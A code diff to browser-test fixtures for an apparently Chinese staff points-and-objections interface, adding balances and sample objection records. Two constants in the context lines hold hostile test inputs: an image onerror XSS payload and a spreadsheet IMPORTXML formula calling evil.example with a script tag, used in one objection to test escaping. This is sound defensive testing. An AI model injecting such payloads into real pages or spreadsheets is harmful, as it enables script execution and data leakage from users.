@@ -1,6 +1,11 @@
 // Plain-JSON fixtures shaped like the ui-contract types, for the stubbed server in the browser tests.
 
-import type { DialogOptions, PendingClaim, SidebarState } from '../../src/shared/ui-contract';
+import type {
+  DialogOptions,
+  ObjectionSummary,
+  PendingClaim,
+  SidebarState,
+} from '../../src/shared/ui-contract';
 
 export const HOSTILE_NAME = '<img src=x onerror="window.__pwned=1">';
 export const HOSTILE_REASON = '=IMPORTXML("https://evil.example/","//a")<script>window.__pwned=2</script>';
@@ -113,6 +118,47 @@ export function dialogOptions(over: Partial<DialogOptions> = {}): DialogOptions 
     ],
     months: ['2026-11', '2026-10'],
     month: '2026-10',
+    balances: [
+      { cadreId: '001', availablePoints: 260, halfDays: 2, redeemedHalfDays: 1 },
+      { cadreId: '002', availablePoints: 40, halfDays: 0, redeemedHalfDays: 0 },
+      { cadreId: '003', availablePoints: 150, halfDays: 1, redeemedHalfDays: 0 },
+    ],
+    pointsPerHalfDay: 100,
+    publishedMonths: ['2026-09', '2026-08'],
+    objections: objections(),
+    today: '2026-11-03',
     ...over,
   };
+}
+
+export function objection(over: Partial<ObjectionSummary> = {}): ObjectionSummary {
+  return {
+    id: 'O3',
+    month: '2026-09',
+    cadreId: '002',
+    cadreName: '李四',
+    entryId: 'E0123',
+    content: '9月15日“被上级点名批评”扣 5 分有误：当天在区里参加培训，有签到表。',
+    status: '待处理',
+    opinion: '',
+    ...over,
+  };
+}
+
+/** Newest first: two pending (one hostile, about a missing entry) and one already decided. */
+export function objections(): ObjectionSummary[] {
+  return [
+    objection(),
+    objection({ id: 'O2', cadreId: '003', cadreName: HOSTILE_NAME, entryId: '', content: HOSTILE_REASON }),
+    objection({
+      id: 'O1',
+      month: '2026-08',
+      cadreId: '001',
+      cadreName: '张三',
+      entryId: 'E0042',
+      content: '8月的迟到记录有误。',
+      status: '不成立',
+      opinion: '经核对签到表，8月6日迟到属实。',
+    }),
+  ];
 }
